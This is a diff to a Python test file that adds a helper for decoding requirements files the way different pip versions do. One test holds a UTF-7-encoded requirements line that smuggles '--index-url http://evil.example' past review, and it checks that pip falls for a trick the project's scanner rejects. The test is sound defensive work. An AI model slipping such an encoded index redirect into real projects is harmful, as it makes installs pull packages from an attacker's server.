@@ -12,7 +12,18 @@ from frognano.run.environment.reqfile import logical_lines, parse_line
 # pip's internals are no API: these tests compare against whichever pip is installed, and are
 # skipped where there is none
 req_file: Any = pytest.importorskip("pip._internal.req.req_file")
-encoding: Any = pytest.importorskip("pip._internal.utils.encoding")
+
+
+def pip_decode(data: bytes) -> str:
+    """How pip decodes a requirements file: `_decode_req_file` since pip 25, `auto_decode`
+    before."""
+    decode = getattr(req_file, "_decode_req_file", None)
+    if decode is not None:
+        return str(decode(data, "requirements.txt"))
+    from pip._internal.utils.encoding import auto_decode
+
+    return str(auto_decode(data))
+
 
 TEXTS = [
     "a \\\n-i x\n",
@@ -97,4 +108,4 @@ def test_options_are_pips(line: str) -> None:
 
 def test_the_encoding_trick_the_scan_refuses_does_fool_pip() -> None:
     data = b"# -*- coding: utf-7 -*-\n+AC0ALQ-index-url http://evil.example\n"
-    assert encoding.auto_decode(data).splitlines()[1] == "--index-url http://evil.example"
+    assert pip_decode(data).splitlines()[1] == "--index-url http://evil.example"
